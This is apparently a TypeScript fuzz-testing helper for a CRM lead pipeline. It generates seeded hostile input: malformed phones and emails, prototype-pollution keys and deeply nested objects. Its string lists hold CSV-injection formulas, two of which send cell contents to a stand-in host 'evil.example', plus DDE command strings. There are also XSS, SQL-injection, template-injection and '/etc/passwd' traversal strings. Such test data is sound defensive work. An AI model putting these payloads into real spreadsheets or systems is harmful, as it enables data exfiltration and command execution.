/**
 * A small seeded generator of hostile input for the fuzz suites: the same seed gives the same cases, so a failure
 * names its seed and case and can be replayed. It mixes plausible lead data with what forms, chats and careless
 * integrations really send: malformed phones and emails, empty and huge strings, wrong types, unicode and emoji,
 * prototype-polluting keys, CSV-injection strings, deep nesting.
 */

export class Random {
	private state: number;

	constructor(readonly seed: number) {
		this.state = seed >>> 0 || 1;
	}

	/** mulberry32: uniform in [0, 1). */
	next(): number {
		this.state = (this.state + 0x6d2b79f5) >>> 0;
		let t = this.state;
		t = Math.imul(t ^ (t >>> 15), t | 1);
		t ^= t + Math.imul(t ^ (t >>> 7), t | 61);
		return ((t ^ (t >>> 14)) >>> 0) / 4294967296;
	}

	int(min: number, max: number): number {
		return min + Math.floor(this.next() * (max - min + 1));
	}

	chance(p: number): boolean {
		return this.next() < p;
	}

	pick<T>(list: readonly T[]): T {
		return list[Math.floor(this.next() * list.length)];
	}
}

/** Strings that have broken real systems. Names are data to us: they must reach the CRM as the text they are. */
export const CSV_INJECTION = [
	'=HYPERLINK("http://evil.example/?q="&A1,"Нажми")',
	'=1+1',
	"+7 (916) =cmd|' /C calc'!A0",
	"-2+3+cmd|' /C calc'!A0",
	"@SUM(1+1)*cmd|' /C calc'!A0",
	'\t=1+1',
	'\r=1+1',
	'=IMPORTXML(CONCAT("http://evil.example/?",A1),"//a")',
];

export const HOSTILE_STRINGS = [
	'',
	' ',
	'\u0000',
	'null',
	'undefined',
	'NaN',
	'[object Object]',
	'__proto__',
	'constructor',
	'prototype',
	'toString',
	'hasOwnProperty',
	'<script>alert(1)</script>',
	'"><img src=x onerror=alert(1)>',
	"Robert'); DROP TABLE leads;--",
	'{{ $json.secret }}',
	'={{ $env.HOME }}',
	'${process.exit(1)}',
	'../../etc/passwd',
	'%s%s%s%n',
	'\u202Eевон\u202C',
	'Zа\u200Bлгo\u0301\u0336',
	'🙂🔥👨‍👩‍👧‍👦',
	'\uD800',
	'Ｉｖａｎ　Ｐｅｔｒｏｖ',
	'Иван\nПетров\r\n',
	'\\',
	'%00%0d%0a',
	'a'.repeat(10_000),
	...CSV_INJECTION,
];

export const BAD_PHONES = [
	'',
	'+',
	'8',
	'+7',
	'8 (916) 123-45-6',
	'8 (916) 123-45-678901',
	'+7 916 123 45 67 доб. 123',
	'+7 916 123 45 67, 8 903 111-22-33',
	'++79161234567',
	'+0 000 000 00 00',
	'79161234567'.repeat(20),
	'телефон',
	'+7 (916) 123-45-67\u0000',
	'٠١٢٣٤٥٦٧٨٩',
	'８９１６１２３４５６７',
	'9'.repeat(40),
	'-79161234567',
	'=79161234567',
	'1e21',
	'0x1F',
];

export const BAD_EMAILS = [
	'',
	'@',
	'a@',
	'@b.ru',
	'a@b',
	'a@@b.ru',
	'a b@c.ru',
	'Ivan.Petrov@Mail.RU ',
	'"quoted"@example.com',
	'ivan@пример.рф',
	'ivan@xn--e1afmkfd.xn--p1ai',
	`${'a'.repeat(300)}@example.com`,
	'ivan@example.com, petr@example.com',
	'=HYPERLINK("x")@e.ru',
	'ivan@example.com\u0000',
	'mailto:ivan@example.com',
];

export const GOOD_PHONES = [
	'8 (916) 123-45-67',
	'+7 916 123 45 67',
	'79161234567',
	'9161234567',
	'+7 701 111 0004',
	'+49 151 11100005',
	'+375 29 123-45-67',
];
export const GOOD_EMAILS = ['ivan.petrov@mail.ru', 'Anna@Yandex.RU', 'o.smirnova+leads@gmail.com'];

/** Any JSON-ish value, wrong types included, nested at most `depth` deep. */
export function anyValue(random: Random, depth = 2): unknown {
	const kind = random.int(0, depth > 0 ? 9 : 6);
	switch (kind) {
		case 0:
			return random.pick(HOSTILE_STRINGS);
		case 1:
			return random.pick([0, -1, 1.5, 1e21, -0, Number.MAX_SAFE_INTEGER, 79161234567]);
		case 2:
			return random.pick([true, false]);
		case 3:
			return null;
		case 4:
			return random.pick(BAD_PHONES);
		case 5:
			return random.pick(BAD_EMAILS);
		case 6:
			return random.pick(GOOD_PHONES);
		case 7:
			return Array.from({ length: random.int(0, 3) }, () => anyValue(random, depth - 1));
		default:
			return anyObject(random, depth - 1);
	}
}

const KEYS = [
	'name',
	'phone',
	'email',
	'Name',
	'Phone',
	'Email',
	'message',
	'comment',
	'utm_source',
	'tags',
	'source',
	'id',
	'data',
	'fields',
	'contact',
	'tranid',
	'formname',
];

/** An object with ordinary and hostile keys; `__proto__` and `constructor` as real own keys (as JSON.parse makes them). */
export function anyObject(random: Random, depth = 2): Record<string, unknown> {
	const entries: Array<[string, unknown]> = [];
	const size = random.int(0, 5);
	for (let i = 0; i < size; i++)
		entries.push([
			random.chance(0.8) ? random.pick(KEYS) : random.pick(HOSTILE_STRINGS).slice(0, 40),
			anyValue(random, depth),
		]);
	if (random.chance(0.2)) entries.push(['__proto__', { polluted: 'yes', isAdmin: true }]);
	if (random.chance(0.1)) entries.push(['constructor', { prototype: { polluted: 'yes' } }]);
	return ownKeys(entries);
}

/** Builds an object whose keys are all own properties, `__proto__` included (like JSON.parse, unlike a literal). */
export function ownKeys(entries: Array<[string, unknown]>): Record<string, unknown> {
	const target: Record<string, unknown> = {};
	for (const [key, value] of entries)
		Object.defineProperty(target, key, {
			value,
			enumerable: true,
			writable: true,
			configurable: true,
		});
	return target;
}

/** A lead as a form might send it: mostly plausible fields, each of which may be hostile or of the wrong type. */
export function fuzzLead(random: Random): Record<string, unknown> {
	const field = (good: () => unknown, bad: () => unknown) => (random.chance(0.5) ? good() : bad());
	const lead = ownKeys([
		[
			'name',
			field(
				() => random.pick(['Иван Петров', 'Anna', 'Ольга-Мария Смирнова', ...CSV_INJECTION]),
				() => anyValue(random, 1),
			),
		],
		[
			'phone',
			field(
				() => random.pick(GOOD_PHONES),
				() => (random.chance(0.7) ? random.pick(BAD_PHONES) : anyValue(random, 1)),
			),
		],
		[
			'email',
			field(
				() => random.pick(GOOD_EMAILS),
				() => (random.chance(0.7) ? random.pick(BAD_EMAILS) : anyValue(random, 1)),
			),
		],
	]);
	if (random.chance(0.5)) lead.message = anyValue(random, 1);
	if (random.chance(0.3)) lead.utm = anyValue(random, 2);
	if (random.chance(0.3)) lead.tags = anyValue(random, 1);
	if (random.chance(0.2)) lead.raw = anyObject(random, 2);
	if (random.chance(0.15))
		Object.defineProperty(lead, '__proto__', {
			value: { polluted: 'yes' },
			enumerable: true,
			writable: true,
			configurable: true,
		});
	if (random.chance(0.05)) lead.deep = deeplyNested(random.int(50, 400));
	return lead;
}

/** `{ a: { a: { … } } }` `depth` levels deep. */
export function deeplyNested(depth: number): Record<string, unknown> {
	let value: Record<string, unknown> = { leaf: 'Иван' };
	for (let i = 0; i < depth; i++) value = { a: value };
	return value;
}

/** Whether anything polluted Object.prototype (a fuzz case must leave it clean). */
export function prototypePolluted(): string | null {
	const probe = {} as Record<string, unknown>;
	for (const key of ['polluted', 'isAdmin']) if (probe[key] !== undefined) return key;
	return null;
}

/** Runs `work` and fails when it takes longer than `limitMs`: a hang, not a slow case. */
export async function withinTime<T>(
	limitMs: number,
	what: string,
	work: () => Promise<T>,
): Promise<T> {
	let timer: NodeJS.Timeout | undefined;
	const hang = new Promise<never>((_, reject) => {
		timer = setTimeout(
			() => reject(new Error(`${what}: no answer within ${limitMs} ms (a hang)`)),
			limitMs,
		);
	});
	try {
		return await Promise.race([work(), hang]);
	} finally {
		clearTimeout(timer);
	}
}

/** Counts what the fuzz suites tried, for the report printed at the end of each suite. */
export const fuzzTally = new Map<string, number>();
export function tally(suite: string, cases = 1) {
	fuzzTally.set(suite, (fuzzTally.get(suite) ?? 0) + cases);
}
